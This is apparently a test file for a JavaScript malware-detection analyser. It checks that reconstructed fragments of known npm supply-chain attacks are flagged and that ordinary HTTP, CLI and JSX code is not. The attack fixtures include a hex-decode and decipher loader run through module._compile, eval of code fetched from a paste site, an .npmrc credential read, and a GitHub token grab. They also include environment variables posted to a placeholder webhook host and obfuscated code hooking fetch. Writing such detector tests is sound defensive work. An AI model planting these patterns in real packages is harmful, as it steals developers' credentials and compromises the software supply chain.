// Shapes of real attacks (hosts inert: *.invalid) and of the benign code they hide among.
import { describe, expect, it } from 'vitest';
import { analyze, find, ids, kinds } from './helpers.js';

describe('attack-like files', () => {
  it('flatmap-stream: hex decode, createDecipher, new module.constructor, _compile', () => {
    const source = `/*@preserve*/
var r = require, t = process;
function e(r) { return Buffer.from(r, 'hex').toString(); }
var n = r(e('2e2f746573742f64617461')), o = t[e(n[3])][e(n[4])];
if (!o) return;
var u = r(e(n[2]))[e(n[6])](e(n[0]), o),
  a = u.update(n[1], e(n[8]), e(n[9]));
a += u.final(e(n[9]));
var d = require('crypto').createDecipher('aes256', o);
var s = d.update(payload, 'hex', 'utf8') + d.final('utf8');
var f = new module.constructor();
f.paths = module.paths;
f._compile(s, '');
f.exports(n[1]);`;
    const analysis = analyze(source, 'test/data.js');
    expect(analysis.reader).toBe('ast');
    const found = ids(source, 'test/data.js');
    expect(found).toEqual(
      expect.arrayContaining([
        'decode-execute:hex',
        'decode-execute:decipher',
        'dynamic-code:_compile',
        'dynamic-code:module.constructor',
        'dynamic-code:require(non-literal)',
      ]),
    );
    expect(find(analysis, 'decode-execute', 'decipher')?.line).toBe(13);
  });

  it('eslint-scope: an https get of a paste site, eval of the answer, .npmrc read', () => {
    const source = `try {
  var https = require('https');
  https.get({ hostname: 'pastebin.invalid', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'x' } }, (r) => {
    r.setEncoding('utf8');
    r.on('data', (c) => { eval(c); });
  }).on('error', () => {});
} catch (e) {}
const npmrc = require('path').join(require('os').homedir(), '.npmrc');`;
    const found = ids(source);
    expect(found).toEqual(expect.arrayContaining(['network:https', 'dynamic-code:eval']));
    expect(kinds(source)).toEqual(expect.arrayContaining(['credential-path']));
    expect(find(analyze(source), 'dynamic-code', 'eval')?.line).toBe(5);
  });

  it('Shai-Hulud: process.env serialised, gh auth token via execSync, a workflow written', () => {
    const source = `const { execSync } = require('child_process');
const fs = require('fs');
const env = JSON.stringify(process.env);
const token = execSync('gh auth token').toString().trim();
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', workflow);
fetch('https://webhook.example.invalid/x', { method: 'POST', body: env });`;
    const found = ids(source);
    expect(found).toEqual(expect.arrayContaining(['process:child_process', 'env-dump:process.env', 'network:fetch']));
    expect(kinds(source)).toEqual(expect.arrayContaining(['shell-command', 'write-outside', 'host']));
  });

  it('chalk/debug: obfuscated _0x code hooking fetch and XMLHttpRequest.prototype.send', () => {
    const table = Array.from({ length: 30 }, (_, i) => `'\\x${(0x41 + i).toString(16)}${i}'`).join(',');
    const source = `const _0x3f2a=[${table}];function _0x1b4c(_0x2d1e,_0x4a5f){return _0x3f2a[_0x2d1e-0x1a5]+_0x4a5f;}
(function(_0x5c6d,_0x7e8f){const _0x9a0b=_0x1b4c;while(!![]){try{_0x5c6d.push(_0x5c6d.shift());break;}catch(_0x1c2d){}}})(_0x3f2a,0x1);
const _0x4e5f=window.fetch;window.fetch=async function(..._0x6a7b){return _0x4e5f.apply(this,_0x6a7b);};
const _0x8c9d=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(_0xa1b2){return _0x8c9d.call(this,_0xa1b2);};`;
    const found = ids(source, 'dist/index.js');
    expect(found).toEqual(expect.arrayContaining(['browser-hook:fetch', 'browser-hook:XMLHttpRequest.prototype.send']));
    expect(kinds(source, 'dist/index.js')).toContain('obfuscated');
  });
});

describe('benign files', () => {
  it('an HTTP client is network only', () => {
    const source = `'use strict';
const https = require('https');
module.exports = function get(options, body) {
  return new Promise((resolve, reject) => {
    const req = https.request({ ...options, method: 'POST' }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
    });
    req.on('error', reject);
    req.end(body);
  });
};`;
    expect(kinds(source)).toEqual(['network']);
    expect(ids(source)).toEqual(['network:https']);
  });

  it('a CLI spawning git is process only', () => {
    const source = `#!/usr/bin/env node
import { spawnSync } from 'node:child_process';
const result = spawnSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8', env: process.env });
if (process.env.NODE_ENV !== 'test') console.log(result.stdout.trim());
process.exitCode = result.status ?? 1;`;
    const analysis = analyze(source, 'bin/cli');
    expect(analysis.reader).toBe('ast');
    expect(analysis.capabilities.map((c) => `${c.kind}:${c.detail}`)).toEqual(['process:child_process']);
  });

  it('reads a JSX file', () => {
    const source = `import React from 'react';
export function App({ items }) {
  return <ul className="list">{items.map((i) => <li key={i.id}>{i.name}</li>)}</ul>;
}`;
    const analysis = analyze(source, 'src/App.jsx');
    expect(analysis).toEqual({ reader: 'ast', capabilities: [] });
    expect(analyze(source, 'src/App.js').reader).toBe('ast');
  });
});
